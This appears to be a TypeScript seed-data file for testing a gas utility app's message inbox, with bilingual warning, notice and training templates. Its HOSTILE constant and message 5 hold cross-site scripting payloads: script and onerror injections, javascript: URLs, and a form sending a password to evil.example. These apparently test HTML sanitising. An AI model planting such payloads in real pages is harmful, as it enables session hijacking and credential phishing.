import type { Message } from '#harness/backend/core/messages'
import { KINDS } from './types'

/** A message without reader, number and time. */
export type Content = Omit<Message, 'mid' | 'to' | 'seq' | 'at'>

/** Templates of seeded messages (domain: messages 1). */
export const WARNING = {
  v: 1,
  title: { en: 'Gas volume down', zh: '用气量下降' },
  subtitle: { en: 'Dali Forging', zh: '南海大沥锻造有限公司' },
  rows: [
    { label: { en: 'Actual', zh: '实际用气量' }, value: 3914, as: 'volume' },
    { label: { en: 'Expected', zh: '预期用气量' }, value: 6203, as: 'volume' },
    { label: { en: 'Due', zh: '处理期限' }, value: '2026-11-20', as: 'date', tone: 'due' },
  ],
  table: {
    columns: [
      { key: 'd', label: { en: 'Day', zh: '日期' }, as: 'date' },
      { key: 'v', label: 'm³', as: 'volume', align: 'right' },
    ],
    rows: [
      { d: '2026-11-18', v: 6261 },
      { d: '2026-11-19', v: 3914 },
    ],
  },
  actions: [
    {
      id: 'handle',
      label: { en: 'Handle', zh: '处理' },
      do: 'route',
      tone: 'main',
      type: 'gasRisk.raised',
      params: { id: 'GW-000001' },
    },
    { id: 'ack', label: { en: 'Seen', zh: '已阅' }, do: 'ack' },
  ],
}
const LONG_TABLE = {
  v: 1,
  title: { en: 'Gas volumes of 50 customers', zh: '50 家客户用气量' },
  rows: [{ label: { en: 'Customers', zh: '客户数' }, value: 50 }],
  table: {
    columns: [
      { key: 'n', label: { en: 'Customer', zh: '客户' } },
      { key: 'v', label: 'm³', as: 'volume', align: 'right' },
      { key: 'p', label: { en: 'Amount', zh: '金额' }, as: 'money', align: 'right' },
    ],
    rows: [
      { n: 'C-1', v: 1000, p: 4000 },
      { n: 'C-2', v: 1037, p: 4148 },
      { n: 'C-3', v: 1074, p: 4296 },
      { n: 'C-4', v: 1111, p: 4444 },
      { n: 'C-5', v: 1148, p: 4592 },
      { n: 'C-6', v: 1185, p: 4740 },
      { n: 'C-7', v: 1222, p: 4888 },
      { n: 'C-8', v: 1259, p: 5036 },
      { n: 'C-9', v: 1296, p: 5184 },
      { n: 'C-10', v: 1333, p: 5332 },
      { n: 'C-11', v: 1370, p: 5480 },
      { n: 'C-12', v: 1407, p: 5628 },
      { n: 'C-13', v: 1444, p: 5776 },
      { n: 'C-14', v: 1481, p: 5924 },
      { n: 'C-15', v: 1518, p: 6072 },
      { n: 'C-16', v: 1555, p: 6220 },
      { n: 'C-17', v: 1592, p: 6368 },
      { n: 'C-18', v: 1629, p: 6516 },
      { n: 'C-19', v: 1666, p: 6664 },
      { n: 'C-20', v: 1703, p: 6812 },
      { n: 'C-21', v: 1740, p: 6960 },
      { n: 'C-22', v: 1777, p: 7108 },
      { n: 'C-23', v: 1814, p: 7256 },
      { n: 'C-24', v: 1851, p: 7404 },
      { n: 'C-25', v: 1888, p: 7552 },
      { n: 'C-26', v: 1925, p: 7700 },
      { n: 'C-27', v: 1962, p: 7848 },
      { n: 'C-28', v: 1999, p: 7996 },
      { n: 'C-29', v: 2036, p: 8144 },
      { n: 'C-30', v: 2073, p: 8292 },
      { n: 'C-31', v: 2110, p: 8440 },
      { n: 'C-32', v: 2147, p: 8588 },
      { n: 'C-33', v: 2184, p: 8736 },
      { n: 'C-34', v: 2221, p: 8884 },
      { n: 'C-35', v: 2258, p: 9032 },
      { n: 'C-36', v: 2295, p: 9180 },
      { n: 'C-37', v: 2332, p: 9328 },
      { n: 'C-38', v: 2369, p: 9476 },
      { n: 'C-39', v: 2406, p: 9624 },
      { n: 'C-40', v: 2443, p: 9772 },
      { n: 'C-41', v: 2480, p: 9920 },
      { n: 'C-42', v: 2517, p: 10068 },
      { n: 'C-43', v: 2554, p: 10216 },
      { n: 'C-44', v: 2591, p: 10364 },
      { n: 'C-45', v: 2628, p: 10512 },
      { n: 'C-46', v: 2665, p: 10660 },
      { n: 'C-47', v: 2702, p: 10808 },
      { n: 'C-48', v: 2739, p: 10956 },
      { n: 'C-49', v: 2776, p: 11104 },
      { n: 'C-50', v: 2813, p: 11252 },
    ],
    total: { n: { en: 'Sum', zh: '合计' }, v: 95_325, p: 381_300 },
  },
  actions: [{ id: 'confirm', label: { en: 'Confirm', zh: '确认' }, do: 'call', tone: 'main', confirm: true }],
}
const NEWER = { v: 2, title: { en: 'Of a newer app', zh: '新版内容' }, rows: [], cards: [] }
const INVITED = {
  v: 1,
  title: { en: 'Safety training', zh: '安全培训' },
  rows: [
    { label: { en: 'Day', zh: '日期' }, value: '2026-11-24', as: 'date' },
    { label: { en: 'Place', zh: '地点' }, value: { en: 'Service hall Nanhai', zh: '南海营业厅' }, as: 'address' },
    { label: { en: 'Contact', zh: '联系人' }, value: { en: 'Zhao Min', zh: '赵敏' }, as: 'person' },
    { label: { en: 'Phone', zh: '电话' }, value: '13800138000', as: 'phone' },
  ],
  actions: [
    { id: 'accept', label: { en: 'I come', zh: '参加' }, do: 'call', tone: 'main' },
    { id: 'decline', label: { en: 'I cannot', zh: '不参加' }, do: 'call', tone: 'plain' },
  ],
}
const HOSTILE =
  '<p>Hello <b>you</b></p><script>window.isBroken = true</script><img src=x onerror="window.isBroken = true"><a href="javascript:window.isBroken=true">press</a><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"></form>'

/** Messages about no record: notices and versions; `{n}` is their number. */
export const ALONE: readonly Content[] = [
  {
    category: 'notice',
    type: 'notice.published',
    level: 'normal',
    title: { en: 'Notice {n}: opening hours of the service hall', zh: '公告 {n}：营业厅服务时间调整' },
    summary: { en: 'From Monday on, 8:30 to 17:30.', zh: '自下周一起 8:30 至 17:30。' },
    html: '<p>自下周一起，营业厅服务时间调整为 <b>8:30–17:30</b>。</p><p>From Monday on the service halls are open from <b>8:30 to 17:30</b>.</p>',
  },
  {
    category: 'system',
    type: 'system.updated',
    level: 'normal',
    title: { en: 'Version 2.{n} is there', zh: '新版本 2.{n} 已上线' },
    summary: { en: 'Faster lists, and check-in without network.', zh: '列表更快，支持离线打卡。' },
  },
]

/** Fixed messages of rep01 by number (domain: messages 6). */
export const FIXED: Readonly<Record<number, Content>> = {
  1: {
    category: 'risk',
    type: 'gasRisk.raised',
    level: 'urgent',
    title: { en: 'Dali Forging · Gas volume down', zh: '南海大沥锻造有限公司 · 用气量下降' },
    summary: { en: '3,914 m³ instead of 6,203', zh: '3,914 m³，预期 6,203 m³' },
    subject: { kind: KINDS.GW, id: 'GW-000001' },
    params: { id: 'GW-000001' },
    template: WARNING,
  },
  2: {
    category: 'notice',
    type: 'volumes.reported',
    level: 'normal',
    title: { en: 'Gas volumes of your customers', zh: '您的客户用气量' },
    params: {},
    template: LONG_TABLE,
  },
  3: {
    category: 'lead',
    type: 'clue.assigned',
    level: 'important',
    subject: { kind: KINDS.L, id: 'L-999999' },
    params: { clueId: 'L-999999' },
    title: { en: 'Lead L-999999 was assigned', zh: '线索 L-999999 已分配' },
  },
  4: {
    category: 'system',
    type: 'foo.bar',
    level: 'normal',
    title: { en: 'Of a newer app', zh: '新版应用的消息' },
    params: { id: 'X-1' },
    template: NEWER,
  },
  5: {
    category: 'notice',
    type: 'notice.published',
    level: 'normal',
    title: { en: '<b>Hostile</b> notice', zh: '<b>恶意</b>公告' },
    params: {},
    html: HOSTILE,
    files: [
      { name: '通知<img src=x>.pdf', size: 240_000, suffix: 'pdf', fileUrl: '/file/notice.pdf' },
      { name: 'evil.html', size: 10, suffix: 'html', fileUrl: 'javascript:alert(1)' },
    ],
  },
  6: {
    category: 'lead',
    type: 'clue.assigned',
    level: 'important',
    subject: { kind: KINDS.L, id: 'L-000013' },
    params: { clueId: 'L-000013' },
    title: { en: 'Lead L-000013 was assigned', zh: '线索 L-000013 已分配' },
  },
  7: {
    category: 'approval',
    type: 'role.decided',
    level: 'important',
    title: { en: 'Your application AP-000002 was decided', zh: '您的申请 AP-000002 已审批' },
    subject: { kind: KINDS.AP, id: 'AP-000002' },
    params: { id: 'AP-000002', items: '1' },
  },
  8: {
    category: 'notice',
    type: 'training.invited',
    level: 'normal',
    title: { en: 'Safety training on Tuesday', zh: '周二安全培训' },
    params: {},
    template: INVITED,
  },
}

/** Fixed messages that are unread although they are old. */
export const UNREAD_FIXED = 1

/** Readers with their number of messages and of unread messages by category (domain: messages 6). */
export const READERS: readonly (readonly [
  loginName: string,
  count: number,
  unread: Readonly<Record<string, number>>,
])[] = [
  ['rep01', 86, { todo: 6, risk: 4, lead: 3, notice: 2, approval: 1, visit: 1 }],
  ['rep04', 2, { todo: 1 }],
  ['rep05', 9, { lead: 2, todo: 1 }],
]
/** Number of messages of rep01 in a large store. */
export const LARGE = 5000
/** Days over which the messages are spread. */
export const DAYS = 60
/** Numbers of expired messages; they are not counted, even if unread. */
export const EXPIRED = { from: 9, to: 13 }
